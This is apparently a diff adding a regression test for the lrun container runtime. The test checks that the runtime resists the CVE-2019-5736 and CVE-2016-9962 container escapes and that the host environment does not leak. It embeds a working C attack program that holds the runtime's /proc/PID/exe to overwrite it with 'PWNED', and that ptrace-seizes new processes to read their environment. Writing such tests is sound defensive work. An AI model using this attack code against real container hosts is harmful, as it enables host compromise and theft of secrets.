@@ -1,0 +1,211 @@
+#!/bin/bash
+# Container escapes (issue 10), each attack performed from inside a
+# container by a static C program of the test's own:
+#   binary   CVE-2019-5736: lrun exec'ing "#!/proc/self/exe" runs lrun in
+#            the container; it holds the binary open and writes it once
+#            nothing runs it any more (a second copy of lrun execs, as after
+#            an upgrade)
+#   ptrace   CVE-2016-9962: seize lrun's exec helper (with CAP_SYS_PTRACE)
+#            while it is not yet confined; read its environment
+#   environ  the host's environment in the --init reaper's /proc/1/environ
+here=$(cd "$(dirname "$0")" && pwd)
+. "$here/../lib/tap.sh"
+. "$here/../lib/fixtures.sh"
+. "$here/../lib/lrun.sh"
+. "$here/../lib/ctr.sh"
+[ "$(id -u)" = 0 ] || skip_all "needs root"
+command -v gcc >/dev/null || skip_all "needs gcc (static attack program)"
+ctr_setup
+TO="timeout -k 5 30"
+
+mkdir -p "$T/attack" "$T/out"
+cat >"$T/attack.c" <<'EOF'
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }
+static int exists(const char *p) { return access(p, F_OK) == 0; }
+
+/* read a /proc file into buf (NULs become spaces); length or -1 */
+static int slurp(const char *path, char *buf, int cap)
+{
+	int fd = open(path, O_RDONLY), n, total = 0;
+	if (fd < 0) return -1;
+	while (total < cap - 1 && (n = read(fd, buf + total, cap - 1 - total)) > 0) total += n;
+	close(fd);
+	for (int i = 0; i < total; i++) if (!buf[i]) buf[i] = ' ';
+	buf[total] = 0;
+	return total;
+}
+
+static int max_pid(void)
+{
+	DIR *d = opendir("/proc");
+	struct dirent *e;
+	int m = 0;
+	while ((e = readdir(d))) { int p = atoi(e->d_name); if (p > m) m = p; }
+	closedir(d);
+	return m;
+}
+
+/* binary OUT: find lrun's "login" process, hold its exe, then try to open
+ * it for writing until OUT/stop appears */
+static int binary(const char *out)
+{
+	char path[256], buf[4096], res[256] = "exe not caught";
+	int exe = -1, pid = 0;
+	FILE *f;
+	snprintf(path, sizeof path, "%s/ready", out);
+	close(open(path, O_WRONLY | O_CREAT, 0644));
+	snprintf(path, sizeof path, "%s/stop", out);
+	double end = now() + 20;
+	while (exe < 0 && now() < end && !exists(path)) {
+		DIR *d = opendir("/proc");
+		struct dirent *e;
+		while (exe < 0 && (e = readdir(d))) {
+			char p[64];
+			int n = atoi(e->d_name);
+			if (n <= 1 || n == getpid()) continue;
+			snprintf(p, sizeof p, "/proc/%d/cmdline", n);
+			if (slurp(p, buf, sizeof buf) > 0 && strstr(buf, " login ")) {
+				snprintf(p, sizeof p, "/proc/%d/exe", n);
+				exe = open(p, O_RDONLY);
+				pid = n;
+			}
+		}
+		closedir(d);
+	}
+	if (exe >= 0) {
+		char self[64];
+		int last = 0;
+		snprintf(self, sizeof self, "/proc/self/fd/%d", exe);
+		snprintf(res, sizeof res, "exe of pid %d held; write: never tried", pid);
+		while (!exists(path) || last == ETXTBSY) {
+			int w = open(self, O_WRONLY);
+			if (w >= 0) {
+				pwrite(w, "PWNED", 5, 0);
+				close(w);
+				snprintf(res, sizeof res, "exe held; write: PWNED");
+				break;
+			}
+			last = errno;
+			snprintf(res, sizeof res, "exe held; write: %s", strerrorname_np(last));
+			if (now() > end) break;
+			usleep(5000);
+		}
+	}
+	snprintf(path, sizeof path, "%s/result", out);
+	f = fopen(path, "w");
+	fprintf(f, "%s\n", res);
+	fclose(f);
+	return 0;
+}
+
+/* ptrace OUT MARK: seize every new pid; a seized process that is not yet
+ * under seccomp, or whose environment holds MARK, is a finding */
+static int tracer(const char *out, const char *mark)
+{
+	char path[256], buf[65536], stop[256];
+	int seized = 0, unconfined = 0, leaked = 0, next = max_pid() + 1;
+	snprintf(path, sizeof path, "%s/ready", out);
+	close(open(path, O_WRONLY | O_CREAT, 0644));
+	snprintf(stop, sizeof stop, "%s/stop", out);
+	double end = now() + 25;
+	for (long spins = 0; now() < end; spins++) {
+		if (spins % 4096 == 0 && exists(stop)) break;
+		for (int p = next; p < next + 3; p++) {
+			if (ptrace(PTRACE_SEIZE, p, 0, 0) < 0) continue;
+			ptrace(PTRACE_INTERRUPT, p, 0, 0);
+			int st;
+			waitpid(p, &st, __WALL);
+			seized++;
+			snprintf(path, sizeof path, "/proc/%d/status", p);
+			if (slurp(path, buf, sizeof buf) > 0 && strstr(buf, "Seccomp:\t0")) unconfined++;
+			snprintf(path, sizeof path, "/proc/%d/environ", p);
+			if (slurp(path, buf, sizeof buf) > 0 && strstr(buf, mark)) leaked++;
+			ptrace(PTRACE_DETACH, p, 0, 0);
+			next = p + 1;
+		}
+		if (spins % 256 == 0) { int m = max_pid(); if (m >= next) next = m + 1; }
+	}
+	snprintf(path, sizeof path, "%s/result", out);
+	FILE *f = fopen(path, "w");
+	fprintf(f, "seized %s\nunconfined %d\nenvironment %d\n", seized ? "some" : "none", unconfined, leaked);
+	fclose(f);
+	return 0;
+}
+
+int main(int argc, char **argv)
+{
+	if (argc > 2 && !strcmp(argv[1], "binary")) return binary(argv[2]);
+	if (argc > 3 && !strcmp(argv[1], "ptrace")) return tracer(argv[2], argv[3]);
+	return 2;
+}
+EOF
+gcc -static -O2 -o "$T/attack/attack" "$T/attack.c" 2>"$T/gcc.err" || bail "cannot build the attack program: $(cat "$T/gcc.err")"
+ATTACK=(-v "$T/attack:/attack:ro" -v "$T/out:/out")
+MARK=lrun_host_secret_$$
+export LRUN_TEST_SECRET=$MARK
+
+# ------------------------------------------ CVE-2019-5736: the binary --
+# exec runs another copy of lrun than the container's monitor (an upgrade):
+# once that copy's exec returns, nothing on the host runs it any more
+printf '#!/proc/self/exe login\n' >"$T/attack/evil"
+chmod 755 "$T/attack/evil"
+cp "$LRUN" "$T/lrun-copy"
+before=$(sha256 "$T/lrun-copy")
+run $TO "$LRUN" --root "$R" run -d --name bin "${ATTACK[@]}" "$IMG" /attack/attack binary /out
+is "$rc" 0 "a container that waits for lrun's binary to show up"
+wait_for 10 test -e "$T/out/ready"
+run $TO sh -c 'sleep 1 | "$0" --root "$1" exec -i bin /attack/evil' "$T/lrun-copy" "$R"
+like "$err" "Username: " "exec of #!/proc/self/exe ran lrun's binary in the container (lrun login asked)"
+touch "$T/out/stop"
+wait_for 10 test -e "$T/out/result"
+like "$(cat "$T/out/result")" '^exe held; write: EROFS$' \
+	"the container held lrun's exe; opening it for writing fails with EROFS once nothing runs it"
+is "$(sha256 "$T/lrun-copy")" "$before" "the host's lrun binary is unchanged"
+run "$T/lrun-copy" version
+is "$rc" 0 "  and still runs"
+"$LRUN" --root "$R" rm -f bin >/dev/null 2>&1
+rm -f "$T/out/"*
+
+# ------------------------------------- CVE-2016-9962: ptrace the helper --
+run $TO "$LRUN" --root "$R" run -d --name tr --cap-add SYS_PTRACE "${ATTACK[@]}" "$IMG" /attack/attack ptrace /out "$MARK"
+is "$rc" 0 "a container with CAP_SYS_PTRACE that seizes every new process"
+wait_for 10 test -e "$T/out/ready"
+fails=0
+for i in $(seq 15); do
+	"$LRUN" --root "$R" exec tr true >/dev/null 2>&1 || fails=$((fails + 1))
+done
+is "$fails" 0 "15 execs into it succeed"
+touch "$T/out/stop"
+wait_for 10 test -e "$T/out/result"
+is "$(cat "$T/out/result")" "seized some
+unconfined 0
+environment 0" "it seized processes, but none of lrun's before seccomp, and none with the host's environment"
+"$LRUN" --root "$R" rm -f tr >/dev/null 2>&1
+rm -f "$T/out/"*
+
+# ------------------------------------------------ the host environment --
+run $TO "$LRUN" --root "$R" run --rm --init "$IMG" sh -c \
+	'cat /proc/1/environ >/dev/null 2>&1; echo $?; cat /proc/1/environ 2>/dev/null | grep -c LRUN_TEST_SECRET'
+is "$out" $'1\n0\n' "--init: the reaper's /proc/1/environ cannot be read (not dumpable)"
+run $TO "$LRUN" --root "$R" run --rm --init --cap-add SYS_PTRACE "$IMG" sh -c 'tr -d "\0" </proc/1/environ | wc -c'
+is "$rc|$out" $'0|0\n' "--init with CAP_SYS_PTRACE: /proc/1/environ holds nothing but NUL bytes (the host's environment is wiped)"
+run $TO "$LRUN" --root "$R" run --rm "$IMG" sh -c 'cat /proc/self/environ | tr "\0" "\n" | grep -c LRUN_TEST_SECRET'
+is "$out" $'0\n' "the container's process has none of lrun's environment"
+run $TO "$LRUN" --root "$R" run --rm --init --cap-add SYS_PTRACE "$IMG" sh -c 'ls -l /proc/1/exe >/dev/null && echo x >>/proc/1/exe'
+like "$err" 'Read-only file system|Text file busy' "--init: the reaper's exe cannot be opened for writing"
+
+done_testing
